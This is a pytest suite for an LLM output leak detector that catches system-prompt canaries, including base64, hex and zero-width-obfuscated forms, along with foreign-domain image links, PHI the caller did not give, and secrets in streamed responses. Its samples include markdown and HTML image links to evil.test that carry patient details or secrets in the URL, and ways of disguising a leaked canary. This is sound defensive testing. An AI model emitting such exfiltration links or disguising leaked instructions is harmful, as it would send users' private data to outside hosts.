"""Output filters: canaries, exfiltration links, PHI not from the caller, secrets, streaming."""

from __future__ import annotations

import base64

import pytest

from vallum.detect import Action, DetectorConfig, Finding, Outcome
from vallum.detect.leak import MAX_HOLD, LeakDetector

CANARY = "vlm-canary-5e1f0a9b"


def leak(**kw: object) -> LeakDetector:
    return LeakDetector(canaries=[CANARY], allowed_domains=["example.com"], **kw)  # type: ignore[arg-type]


def types(text: str, detector: LeakDetector | None = None) -> set[str]:
    return {f.type for f in (detector or leak()).detect(text).findings}


def test_name_and_a_clean_response() -> None:
    d = leak()
    assert d.name == "leak"
    assert d.detect("The capital of France is Paris.").outcome is Outcome.CLEAN


@pytest.mark.parametrize(
    "text",
    [
        f"My instructions begin with {CANARY}.",
        f"My instructions begin with {CANARY.upper()}.",
        "spelled out: " + " ".join(CANARY),
        "hidden: vlm-ca\u200bnary-5e1f0a9b",
        "encoded: " + base64.b64encode(CANARY.encode()).decode(),
        "hex: " + CANARY.encode().hex(),
    ],
)
def test_canaries_are_found_even_when_obfuscated(text: str) -> None:
    assert "CANARY_LEAK" in types(text)


def test_short_canaries_are_refused() -> None:
    with pytest.raises(ValueError, match="at least 8"):
        LeakDetector(canaries=["abc"])


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.test/pixel.png)",
        "<img src='https://evil.test/p?d=patient+John+Smith+diabetes'>",
        "[click](https://evil.test/r?q=the%20user%20asked%20about%20HIV%20results)",
        "![x][1]\n\n[1]: https://evil.test/a.png?d=secret",
        "<div style=\"background:url('https://evil.test/b?d=1234567890abcdef')\"></div>",
        "![ok](https://example.com.evil.test/a.png)",
    ],
)
def test_exfiltration_links_to_foreign_domains_are_found(text: str) -> None:
    assert "EXFILTRATION_LINK" in types(text, leak(phi=False))


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://example.com/chart.png?week=12)",
        "![chart](https://cdn.example.com/chart.png)",
        "See [the guideline](https://www.nice.org.uk/guidance) for details.",
        "![local](/static/img.png)",
        "[mail us](mailto:help@example.com)",
    ],
)
def test_allowlisted_images_and_plain_links_are_fine(text: str) -> None:
    assert "EXFILTRATION_LINK" not in types(text, leak(phi=False))


def test_phi_the_caller_gave_may_be_echoed_but_new_phi_is_a_leak() -> None:
    caller = "I am John Smith, SSN 123-45-6789. What does my result mean?"
    d = leak(caller_text=caller)
    assert d.detect("Mr John Smith, your SSN 123-45-6789 is on file.").outcome is Outcome.CLEAN
    found = types("Another patient, Mary Johnson (SSN 987-65-4321), had the same.", d)
    assert {"NAME", "SSN"} & found


def test_caller_findings_mark_identifiers_as_the_callers_own() -> None:
    from vallum.detect.phi import PhiDetector

    caller = "Patient: Maria Gonzalez, MRN 00482913"
    d = leak(caller_text=caller, caller_findings=PhiDetector().detect(caller).findings)
    assert "SSN" not in types("Maria Gonzalez (MRN 00482913) is stable.", d)
    assert d.detect("Maria Gonzalez (MRN 00482913) is stable.").outcome is Outcome.CLEAN


def test_caller_findings_need_the_text_they_index() -> None:
    from vallum.detect.types import Finding

    with pytest.raises(ValueError, match="caller_text"):
        LeakDetector(caller_findings=[Finding("NAME", 0, 4, 0.9, "phi")])


def test_secrets_in_a_response_are_found() -> None:
    assert "AWS_ACCESS_KEY" in types("use key AKIAIOSFODNN7EXAMPLE to connect")


def test_filters_can_be_turned_off() -> None:
    d = LeakDetector(phi=False, secrets=False)
    assert d.detect("Mary Johnson AKIAIOSFODNN7EXAMPLE").outcome is Outcome.CLEAN


RESPONSE = (
    f"Sure. Internal note {CANARY} follows. ![p](https://evil.test/p.png?d=abcdefabcdefabcdef) "
    "Call Mary Johnson at 555-201-3344 for more."
)


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 64, len(RESPONSE)])
def test_streaming_catches_matches_split_across_chunks(size: int) -> None:
    d = leak()
    whole = {(f.type, f.start, f.end) for f in d.detect(RESPONSE).findings}
    stream = d.stream()
    out = []
    for i in range(0, len(RESPONSE), size):
        text, _ = stream.feed(RESPONSE[i : i + size])
        out.append(text)
    text, verdict = stream.close()
    out.append(text)
    assert "".join(out) == RESPONSE  # flag mode releases everything, unchanged
    assert verdict.outcome is Outcome.FLAGGED
    assert {"CANARY_LEAK", "EXFILTRATION_LINK"} <= {f.type for f in verdict.findings}
    assert {(f.type, f.start, f.end) for f in verdict.findings} >= {
        w for w in whole if w[0] in {"CANARY_LEAK", "EXFILTRATION_LINK", "PHONE"}
    }


@pytest.mark.parametrize("split", range(1, len(CANARY)))
def test_a_canary_split_at_any_point_is_never_released(split: int) -> None:
    d = LeakDetector(
        DetectorConfig(action=Action.REDACT), canaries=[CANARY], phi=False, secrets=False
    )
    stream = d.stream()
    first, _ = stream.feed("token: " + CANARY[:split])
    assert CANARY[:split] not in first or split < 1
    second, _ = stream.feed(CANARY[split:] + " done and more words follow here")
    rest, verdict = stream.close()
    released = first + second + rest
    assert CANARY not in released
    assert "[CANARY_LEAK]" in released
    assert verdict.flagged


def test_redact_mode_replaces_each_leak_in_the_stream() -> None:
    d = leak(config=DetectorConfig(action=Action.REDACT))
    stream = d.stream()
    out = "".join(stream.feed(RESPONSE[i : i + 7])[0] for i in range(0, len(RESPONSE), 7))
    out += stream.close()[0]
    assert CANARY not in out and "evil.test" not in out
    assert "[CANARY_LEAK]" in out and "[EXFILTRATION_LINK]" in out
    assert "Sure. Internal note" in out


def test_block_mode_releases_nothing_after_a_leak() -> None:
    d = leak(config=DetectorConfig(action=Action.BLOCK), phi=False)
    stream = d.stream()
    released = ""
    for i in range(0, len(RESPONSE), 4):
        text, verdict = stream.feed(RESPONSE[i : i + 4])
        released += text
    text, verdict = stream.close()
    released += text
    assert CANARY not in released
    assert released == RESPONSE[: RESPONSE.index(CANARY)][: len(released)]
    assert verdict.flagged


def test_clean_text_is_released_promptly_and_the_hold_is_bounded() -> None:
    d = LeakDetector(canaries=[CANARY], phi=False, secrets=False)
    stream = d.stream()
    text, verdict = stream.feed("The weather is mild today and nothing is secret here. ")
    assert len(text) >= 54 - 3 * len(CANARY)
    assert verdict.outcome is Outcome.CLEAN
    held, _ = stream.feed("[" + "x" * (MAX_HOLD + 100))  # an unclosed link cannot hold forever
    assert len(held) >= 100


def test_feeding_a_closed_stream_is_an_error() -> None:
    stream = leak().stream()
    stream.close()
    with pytest.raises(ValueError, match="closed"):
        stream.feed("more")


class _CountingLeak(LeakDetector):
    """Records how many characters each scan reads (the real detector does the work)."""

    scanned: list[int]

    def find(self, text: str) -> list[Finding]:
        self.scanned.append(len(text))
        return super().find(text)


@pytest.mark.parametrize("size", [1, 16])
def test_streaming_work_stays_linear_even_under_a_long_hold(size: int) -> None:
    d = _CountingLeak(canaries=[CANARY], allowed_domains=["example.com"], phi=False)
    d.scanned = []
    text = "Look: ![x](https://evil.test/p?d=" + "A" * 1900 + ") and then plain words. " * 3
    stream = d.stream()
    released = "".join(stream.feed(text[i : i + size])[0] for i in range(0, len(text), size))
    rest, verdict = stream.close()
    assert released + rest == text
    assert "EXFILTRATION_LINK" in {f.type for f in verdict.findings}
    # each scan re-reads at most the held text plus context: never the whole prefix again
    assert sum(d.scanned) <= 4 * len(text) + 1024
    assert max(d.scanned) <= 2 * MAX_HOLD + 2 * 96 + size
